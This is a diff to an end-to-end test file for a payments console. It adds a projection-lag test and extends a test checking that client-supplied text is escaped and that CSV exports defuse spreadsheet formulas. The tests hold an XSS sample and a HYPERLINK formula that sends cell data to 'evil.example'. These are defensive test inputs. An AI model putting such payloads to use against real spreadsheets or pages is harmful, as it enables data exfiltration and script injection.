@@ -13,7 +13,7 @@ import pytest
 
 from projections.queries import TOTAL_COLUMNS
 from tests.e2e.conftest import ACCOUNT, Api
-from tests.e2e.console import csrf_of, hidden, money_story, signed_in
+from tests.e2e.console import csrf_of, hidden, money_story, read_minor, signed_in
 from tests.e2e.dintero import NATIVE, ok
 
 BALANCES = TOTAL_COLUMNS[1:]  # every balance, without the gross amount
@@ -26,10 +26,15 @@ def table(page: str, table_id: str) -> str:
 
 
 def minor_cells(html: str) -> dict[str, int]:
-    """The first value of each ``data-field`` in a piece of a page."""
+    """The first amount shown in each ``data-field`` cell of a piece of a page.
+
+    The text a person reads, not the cell's ``data-minor`` attribute.
+    """
     cells: dict[str, int] = {}
-    for field, value in re.findall(r'data-field="(\w+)" data-minor="(-?\d+)"', html):
-        cells.setdefault(field, int(value))
+    for field, shown in re.findall(
+        r'data-field="(\w+)"[^>]*>\s*<span class="money[^"]*">([^<]*)</span>', html
+    ):
+        cells.setdefault(field, read_minor(shown))
     return cells
 
 
@@ -304,10 +309,29 @@ class TestPagesShowTheApisFigures:
         api_report = ok(writer.get(f"{NATIVE}/audit/verify"))
         assert f"{api_report['orders_checked']:,} orders" in answer.text
 
-    def test_health_shows_each_read_models_lag(self, console: httpx.Client):
+    def test_health_shows_each_read_models_lag(
+        self, api: Api, writer: httpx.Client, console: httpx.Client
+    ):
+        def events_behind() -> dict[str, int]:
+            page = console.get("/console/health").text
+            rows = re.findall(
+                r"<tr><td>(\w+)</td><td class=\"num\">(\d+)</td>", table(page, "lag")
+            )
+            return {name: int(behind) for name, behind in rows}
+
+        projections = api.app.state.projections  # type: ignore[attr-defined]
+        projections.wait_for_head(10)
+        assert events_behind() == {"balances": 0, "journal": 0}
+        projections.stop()  # nobody projects from here on
+        money_story(writer)
+        head = api.app.state.ledger.recorder.max_notification_id()  # type: ignore[attr-defined]
+        behind = events_behind()
+        assert set(behind) == {"balances", "journal"}
+        # Every committed event not yet projected counts (SPEC §10).
+        for runner_name, count in behind.items():
+            position = projections.runners[runner_name].view.position()
+            assert count == head - position > 0, (runner_name, count)
         page = console.get("/console/health").text
-        assert "balances" in page
-        assert "journal" in page
         assert "None of your orders' events was set aside" in page
 
     def test_empty_states_say_what_to_do(self, console: httpx.Client):
@@ -345,7 +369,13 @@ def test_what_clients_sent_is_shown_as_text_never_run(writer, console):
     assert "&lt;img src=x onerror=&#34;alert(1)&#34;&gt;" in listed.text
     export = console.get("/console/orders.csv", params={"merchant_reference": hostile})
     [row] = csv.DictReader(io.StringIO(export.text))
-    assert row["merchant_reference"] == hostile  # CSV is data; formulas are defused
+    assert row["merchant_reference"] == hostile  # markup is data in a CSV
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Refund")'
+    money_story(writer, reference=formula)
+    export = console.get("/console/orders.csv", params={"merchant_reference": formula})
+    [row] = csv.DictReader(io.StringIO(export.text))
+    # A spreadsheet reads the cell as text: the formula is defused, not run.
+    assert row["merchant_reference"] == "'" + formula
 
 
 def test_the_order_list_pages_by_keyset_and_totals_the_whole_set(
